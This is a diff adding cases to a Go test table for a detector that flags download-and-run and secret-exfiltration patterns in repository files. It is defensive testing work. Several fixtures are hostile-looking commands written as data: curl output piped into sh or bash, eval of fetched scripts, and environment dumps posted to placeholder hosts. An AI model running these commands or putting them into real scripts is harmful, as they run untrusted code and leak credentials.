@@ -81,6 +81,14 @@ var registry = []Rule{
 			{"debian/rules", "#!/usr/bin/make -f\n%:\n\tdh $@\noverride_dh_auto_test:\n\txz -dc tests/data.xz > tests/data\n\tdh_auto_test", 0, true},
 		}},
 	{"download-and-run", KindDownload, High, "downloads code and runs it", WhyDownload, []Case{
+		// PowerShell's call operator runs the program it names: fetched
+		// release data handed to a tool is its arguments; to a launcher
+		// (msiexec, a shell, an interpreter) it is what runs.
+		{"tools/up.ps1", "$r = Invoke-RestMethod -Uri \"https://api.x.invalid/releases/latest\"\n$u = $r.assets | ForEach-Object { $_.browser_download_url }\n& komac update Pkg --urls $u", 0, true},
+		{"tools/up.ps1", "$r = Invoke-RestMethod -Uri \"https://api.x.invalid/releases/latest\"\n$u = $r.assets | ForEach-Object { $_.browser_download_url }\n& msiexec /i $u /qn", 3, false},
+		// A program that fetches a well-known owner's release to run it on
+		// the runner: how a loader brings its own runtime.
+		{"scripts/setup.mjs", "execFileSync('sh', ['-c', `curl -fsSL https://github.com/oven-sh/bun/releases/download/bun-v1.3.13/bun-linux-x64.zip -o ${d}/b.zip && unzip -oq ${d}/b.zip -d ${d}`]);\nexecFileSync(join(d, 'bun-linux-x64', 'bun'), ['x.js'], { detached: true });", 2, false},
 		{"x.sh", "curl -fsSL https://x.invalid/i | sh", 0, false},
 		{"x.sh", "curl -fsSL \\\n  https://x.invalid/i \\\n  | bash", 3, false},
 		{"x.sh", "S=$(curl -s https://x.invalid/s)\necho ok\necho ok\neval \"$S\"", 4, false},
@@ -221,6 +229,10 @@ var registry = []Rule{
 			{".gitlab-ci.yml", "scan:\n  before_script:\n    - curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh -s -- -b /usr/local/bin", 3, false},
 			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sS https://starship.rs/install.sh | sh -s -- -y", 6, false},
 			{"install.sh", "powershell -c \"irm bun.sh/install.ps1|iex\"", 0, false},
+			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://drager.github.io/wasm-pack/installer/init.sh -sSf | sh", 6, false},
+			{"ci/check.sh", "curl -sfL https://goreleaser.com/static/run | bash -s -- check", 0, false},
+			// A well-known owner's release an image build puts in the image.
+			{"Dockerfile", "FROM alpine AS build\nARG V=0.19.3\nRUN curl -fLo /out/buildx \"https://github.com/docker/buildx/releases/download/v${V}/buildx-v${V}.linux-amd64\"\nFROM alpine\nCOPY --from=build /out/buildx /usr/local/lib/docker/cli-plugins/docker-buildx", 5, false},
 			// The URL built from the file's own variables.
 			{"tools/install-t.sh", "install() {\n  local sub=\"PowerShell/PowerShell/master\"\n  local root=\"https://raw.githubusercontent.com/$sub/tools\"\n  bash <(curl -s $root/installpsh-\"$D\".sh)\n}", 4, false},
 			// A release's installer at a version tag, and the installer of
@@ -239,6 +251,8 @@ var registry = []Rule{
 			{"x.sh", "env > /tmp/e.txt\necho done\ncurl --data @/tmp/e.txt https://x.invalid/u", 3, false},
 			{"x.py", "import os, requests\nd = dict(os.environ)\nrequests.post('https://x.invalid', json=d)", 3, false},
 			{"x.sh", `curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/repos/a/b`, 0, true},
+			// The name the reply is stored in receives a token, it sends none.
+			{"x.sh", "export SESSION_TOKEN=$(curl -s -X POST https://auth.x.invalid/login -d user=ci | jq -r .token)\n[ -n \"$SESSION_TOKEN\" ] || exit 1", 0, true},
 			// A macro's env argument put into a map is neither the environment nor a send.
 			{"lib/x/defn.ex", "defmacro __before_compile__(env) do\n  exports = Module.get_attribute(env.module, :k)\n  Map.put(exports, {name, arity}, env)\nend", 0, true},
 			{"x.sh", "curl -s -d \"$(env)\" https://x.invalid/c", 0, false},
